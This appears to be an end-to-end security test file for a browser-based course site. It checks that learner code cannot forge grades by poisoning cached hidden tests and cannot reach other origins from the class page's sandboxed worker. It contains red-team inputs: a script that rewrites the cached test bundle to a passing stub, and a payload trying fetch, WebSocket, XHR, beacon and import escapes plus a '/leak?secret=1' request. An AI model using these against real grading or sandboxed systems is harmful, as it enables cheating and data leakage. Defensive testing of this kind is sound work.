"""Trust, step two (issue 52), in Chromium against private copies of the built fixture site: what a submission
can reach of the browser it runs in, and what the offline copy serves after it tried.

- A lesson page: code run in a cell rewrites the exercise's hidden tests in the offline copy (Cache Storage, which
  any script of the origin can write), keeping the stored hash header. The service worker serves only bytes it
  has hashed (sw/sw.js `verified`, once a lifetime: `memo`): the same wrong code still fails; once that worker has
  ended, the next finds the entry rewritten and the copy holds the build's bytes again, and offline the rewritten
  file is refused with a message, never used.
- A rebuild of the site: a rewritten entry is not carried over to the new version's copy.
- The class page's first visit: it becomes isolated by itself (the service worker takes it, it reloads once) before
  any verdict, so every pass is checked apart; the trick that poisons the tests forges nothing, for itself or for a
  plain wrong submission graded after it.
The tricks are tests/fixtures/redteam/'s (a wrong T01.1 each); the isolated page's run of all of them is
test_class.py's.
"""
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from conftest import FIXTURE_SITE, served
from e2e_helpers import FIXTURE, cell, check, exercises, failures, outcomes, page_with, reference, uri, wait_python
from test_offline import private_site, publish_new_version, wait_saved, wait_update_notice  # noqa: F401 (fixture)

pytestmark = [pytest.mark.scenario, pytest.mark.alone]
REDTEAM = FIXTURE.parent.parent / "redteam"
T011 = next(e for e in exercises(FIXTURE).values() if e.id == "T01.1")
BUNDLE = f"assets/tl/exercises/{T011.slug}.json"
CLASS = page_with(FIXTURE.parent / "docs", "/// class")
POISON = (REDTEAM / "poison_tests.py").read_text(encoding="utf-8")
WRONG = POISON.split("PASSING = ")[0]  # the honest mistake every trick carries (math.fsum), without the trick
CLASS_MS = 240_000

STORED = """async (url) => {
    const name = (await caches.keys()).find((n) => n.startsWith('tinyllm-') && n !== 'tinyllm-handoff');
    const found = name && await (await caches.open(name)).match(url);
    return found ? await found.text() : null;
}"""
# What any script of the origin can do: other bytes under the stored headers (the hash header among them).
REWRITE = """async (url) => {
    const name = (await caches.keys()).find((n) => n.startsWith('tinyllm-') && n !== 'tinyllm-handoff');
    const cache = await caches.open(name);
    const stored = await cache.match(url);
    const bundle = await stored.clone().json();
    bundle.tests = {'test_base.py': 'def test_total_is_left_to_right():\\n    pass\\n'};
    await cache.put(url, new Response(JSON.stringify(bundle), {headers: stored.headers}));
}"""


def stop_service_worker(page) -> None:
    """End the site's service worker, as a browser ends an idle one (Chromium's DevTools protocol); the next
    request starts it again, with nothing in memory."""
    cdp = page.context.new_cdp_session(page)
    cdp.send("ServiceWorker.enable")
    cdp.send("ServiceWorker.stopAllWorkers")
    cdp.detach()


def built(root: Path) -> str:
    return (root / BUNDLE).read_text(encoding="utf-8")


def test_a_cell_that_rewrites_the_hidden_tests_in_the_offline_copy_forges_nothing(page, private_site):
    root, server, url = private_site
    page.goto(url + uri(T011.page))
    wait_saved(page)
    assert page.evaluate(STORED, url + BUNDLE) == built(root), "the copy holds the build's hidden tests"
    wait_python(page, T011.slug)
    assert check(page, T011.slug, POISON) == "failed", failures(page, T011.slug)
    page.wait_for_function(f"() => ({STORED})('{url + BUNDLE}').then((t) => t !== null && t.includes('pass\\\\n'))",
                           timeout=30_000, polling=250)  # the trick did rewrite the copy: this test can fail
    # This service worker serves the bytes it hashed for the rest of its life; a later one (the browser ends an
    # idle one) hashes what the copy holds.
    stop_service_worker(page)
    page.reload()
    wait_python(page, T011.slug)
    for code in (WRONG, POISON):
        assert check(page, T011.slug, code) == "failed", failures(page, T011.slug)
        assert outcomes(page, T011.slug)["test_total_is_left_to_right"] == "failed", failures(page, T011.slug)
        if code == WRONG:
            assert page.evaluate(STORED, url + BUNDLE) == built(root), "the rewritten entry was fetched again"

    page.evaluate(REWRITE, url + BUNDLE)
    stop_service_worker(page)
    build = built(root)
    (root / BUNDLE).unlink()  # the host can no longer give the build's bytes (the browser's offline switch does
    # not reach a service worker's requests, and a stopped server may still answer on a kept-alive connection)
    answer = page.evaluate("(u) => fetch(u).then(async (r) => [r.status, await r.text()])", url + BUNDLE)
    # The build's bytes (from the browser's HTTP cache), or the host's 404, or offline the 503: never the rewrite.
    assert answer == [200, build] or answer[0] in (404, 503), answer
    assert "def test_total_is_left_to_right():\n    pass" not in answer[1]
    assert page.evaluate(STORED, url + BUNDLE) in (None, build), "the rewrite is not kept"


def test_a_rebuild_does_not_carry_a_rewritten_entry_over(page, private_site):
    root, server, url = private_site
    page.goto(url + uri(T011.page))
    old = wait_saved(page)["version"]
    page.evaluate(REWRITE, url + BUNDLE)
    new = publish_new_version(root)  # another page changes; the hidden tests do not, and their header says so
    assert new != old
    page.evaluate("navigator.serviceWorker.getRegistration().then((r) => r.update())")
    wait_update_notice(page, server)
    assert wait_saved(page)["version"] == new
    assert page.evaluate(STORED, url + BUNDLE) == built(root)


def test_the_class_page_isolates_itself_on_a_first_visit_then_grades_apart(page, fixture_url, tmp_path):
    # Each document the tab opens counts itself as it starts (a busy machine may reload before the first one's load
    # event, and history's own changes are no document).
    page.add_init_script("if (window === top) sessionStorage.setItem('documents', "
                         "String(Number(sessionStorage.getItem('documents') || 0) + 1))")
    page.goto(fixture_url + CLASS)
    page.wait_for_function("() => document.querySelector('.tl-class')?.dataset.boundary === 'separated'",
                           timeout=90_000)
    assert page.evaluate("() => crossOriginIsolated") is True
    assert page.evaluate("() => sessionStorage.getItem('documents')") == "2"  # the visit, then its one reload
    assert page.evaluate("() => performance.getEntriesByType('navigation')[0].type") == "reload"
    learners = {"poison_tests": POISON, "honest": reference(FIXTURE, T011.slug)}
    assert grade(page, tmp_path / "first", learners) == {"poison_tests": "not-reproduced", "honest": "passed"}
    assert grade(page, tmp_path / "after", {"plain": WRONG}) == {"poison_tests": "not-reproduced",
                                                                 "honest": "passed", "plain": "not-reproduced"}
    assert page.evaluate(STORED, fixture_url + BUNDLE) == built(served(FIXTURE_SITE))


def grade(page, folder: Path, learners: dict[str, str]) -> dict[str, str]:
    """Drop an export per learner (each claiming T01.1 passed) on the class page; every row's verdict once done."""
    folder.mkdir()
    for name, code in learners.items():
        doc = {"format": "tinyllm-progress", "version": "v1", "saved": "2026-12-01T10:00:00Z", "course": "tinyllm",
               "build": "b", "origin": "browser", "learner": name,
               "data": {f"result:{T011.slug}": {"status": "passed", "tests": [], "at": 1796119200000, "code": code}}}
        (folder / f"{name}.json").write_text(json.dumps(doc), encoding="utf-8")
    page.locator("input[type=file][data-class-files]").set_input_files(sorted(folder.iterdir()))
    page.wait_for_function("() => document.querySelector('.tl-class').dataset.state === 'checking'")
    page.wait_for_function("() => document.querySelector('.tl-class').dataset.state === 'done'", timeout=CLASS_MS)
    return page.evaluate(f"""() => Object.fromEntries([...document.querySelectorAll('tr[data-learner]')].map((tr) =>
        [tr.dataset.learner, tr.querySelector('td[data-exercise="{T011.id}"]').dataset.verdict]))""")


ESCAPES = """
import js
other = "{other}"
tried = []
def attempt(name, fn):
    try:
        fn()
        tried.append(name)
    except Exception as e:
        tried.append(f"{{name}}: {{type(e).__name__}}")
attempt("fetch", lambda: js.fetch(other + "/fetch"))
attempt("import", lambda: js.eval("import('" + other + "/import.js').catch(() => 0)"))
attempt("font", lambda: js.FontFace.new("x", "url(" + other + "/font.woff)").load())
attempt("websocket", lambda: js.WebSocket.new(other.replace("http", "ws") + "/ws"))
def xhr():
    x = js.XMLHttpRequest.new()
    x.open("GET", other + "/xhr", False)
    x.send()
attempt("xhr", xhr)
attempt("beacon", lambda: js.navigator.sendBeacon(other + "/beacon", "x"))
attempt("same origin", lambda: js.fetch("/leak?secret=1"))
print(tried)
"""
RUN_IN = """async ([url, code]) => {
    const worker = new Worker(url, {type: 'module'});
    const channel = new MessageChannel();
    const replies = [];
    channel.port1.onmessage = (e) => replies.push(e.data);
    worker.postMessage({type: 'init', id: 0, port: channel.port2}, [channel.port2]);
    const until = async (test, ms) => {
        for (const end = Date.now() + ms; Date.now() < end; await new Promise((r) => setTimeout(r, 100))) {
            const found = replies.find(test);
            if (found) return found;
        }
        throw new Error('no reply: ' + JSON.stringify(replies.slice(-3)));
    };
    await until((m) => m.type === 'status' && ['numpy', 'pytest'].includes(m.stage), 90000);
    channel.port1.postMessage({type: 'run', id: 1, code, filename: 'escape.py', files: {}});
    const result = await until((m) => m.type === 'result' && m.id === 1, 60000);
    await new Promise((r) => setTimeout(r, 3000));  // what the code started, given time to go out
    worker.terminate();
    return result.result;
}"""


class Counting(BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self):  # noqa: N802 - http.server's name
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture()
def elsewhere():
    """Another origin (another port): every request that reaches it, by path."""
    handler = type("Counted", (Counting,), {"hits": []})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", handler.hits
    server.shutdown()
    server.server_close()


def test_a_learners_worker_reaches_no_origin_while_a_lessons_worker_could(page, private_site, elsewhere):
    """The class page's learner worker (tl-worker.js?learner, served by the service worker with its policy) runs
    code that tries every way out it can name, with nothing of confine.js in its way (a run, not a served check):
    no request reaches another origin or the site's host. The same code in a lesson's worker does reach the other
    origin: the attempts are real, and this test can fail."""
    root, server, url = private_site
    other, hits = elsewhere
    page.goto(url + CLASS)
    page.wait_for_function("() => document.querySelector('.tl-class')?.dataset.boundary === 'separated'",
                           timeout=90_000)
    code = ESCAPES.format(other=other)
    learner = page.evaluate(RUN_IN, [url + "assets/tl/tl-worker.js?learner=", code])
    assert learner["status"] == "ok", learner
    assert hits == [], f"a learner's worker reached another origin: {hits}; it tried {learner['stdout']}"
    assert not [line for line in server.log if "/leak" in line], server.log
    lesson = page.evaluate(RUN_IN, [url + "assets/tl/tl-worker.js", code])
    assert lesson["status"] == "ok", lesson
    assert hits, f"the same code in a lesson's worker reached nothing: {lesson['stdout']}"
    print(f"learner tried: {learner['stdout'].strip()}\nlesson reached {sorted(set(hits))}")
